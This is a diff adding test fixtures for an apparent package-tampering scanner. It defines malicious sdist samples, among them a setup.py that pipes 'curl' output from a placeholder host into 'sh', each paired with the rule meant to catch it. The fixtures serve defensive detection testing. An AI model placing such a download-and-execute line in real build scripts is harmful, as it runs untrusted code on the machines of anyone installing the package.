@@ -213,6 +213,21 @@ TAMPERED_WHEELS: list[tuple[str, dict[str, str | bytes], str]] = [
 ]
 
 
+# (sample, files added to the honest sdist, the rule that must catch it)
+TAMPERED_SDISTS: list[tuple[str, dict[str, str | bytes], str]] = [
+    (
+        "setup.py cmdclass fetches and runs a payload",
+        {"setup.py": SETUP_CMDCLASS},
+        "inspect-remote-exec",
+    ),
+    (
+        "setup.py runs a shell dropper",
+        {"setup.py": "import os\nos.system('curl -s http://example.invalid/i | sh')\n"},
+        "inspect-download-exec",
+    ),
+]
+
+
 def make_repository(root: Path, files: dict[str, str] | None = None, tag: str = "v1.0.0") -> Path:
     """A git repository holding the honest project, tagged at its version."""
     root.mkdir(parents=True, exist_ok=True)
